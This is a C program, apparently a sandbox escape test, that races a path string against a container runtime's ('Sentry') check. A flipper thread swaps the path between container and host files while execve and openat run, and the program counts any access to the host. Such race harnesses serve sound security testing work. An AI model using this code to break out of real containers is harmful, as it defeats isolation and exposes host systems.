/* Races a path argument against the Sentry's check: a second thread keeps
 * rewriting the path string between a file of the container and a host file
 * while the main thread calls execve and open with it.  Usage:
 *     race INSIDE_EXE HOST_EXE INSIDE_FILE HOST_FILE ROUNDS
 * Prints "exec: inside=N failed=N host=N" and "open: inside=N failed=N host=N";
 * HOST_EXE exits with status 42 and HOST_FILE holds "HOST", so any host
 * count above zero is an escape. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[4096];
static const char *a, *b;
static volatile int stop;

static void *flipper(void *arg)
{
    (void)arg;
    size_t la = strlen(a) + 1, lb = strlen(b) + 1;
    while (!stop) {
        memcpy(path, a, la);
        memcpy(path, b, lb);
    }
    return NULL;
}

static void start_flipper(pthread_t *t, const char *x, const char *y)
{
    a = x;
    b = y;
    stop = 0;
    memcpy(path, a, strlen(a) + 1);
    pthread_create(t, NULL, flipper, NULL);
}

int main(int argc, char **argv)
{
    if (argc != 6)
        return 2;
    int rounds = atoi(argv[5]);
    int inside = 0, failed = 0, host = 0;
    for (int i = 0; i < rounds; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            pthread_t t;
            start_flipper(&t, argv[1], argv[2]);
            char *args[] = {"true", NULL};
            for (int j = 0; j < 50; j++)
                syscall(SYS_execve, path, args, environ);  /* raw: no libc copy */
            _exit(127);
        }
        int status = 0;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 42)
            host++;
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
            inside++;
        else
            failed++;
    }
    printf("exec: inside=%d failed=%d host=%d\n", inside, failed, host);

    pthread_t t;
    start_flipper(&t, argv[3], argv[4]);
    inside = failed = host = 0;
    for (int i = 0; i < rounds * 20; i++) {
        int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
        if (fd < 0) {
            failed++;
            continue;
        }
        char buf[64] = {0};
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n > 0 && strstr(buf, "HOST"))
            host++;
        else
            inside++;
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("open: inside=%d failed=%d host=%d\n", inside, failed, host);
    return 0;
}
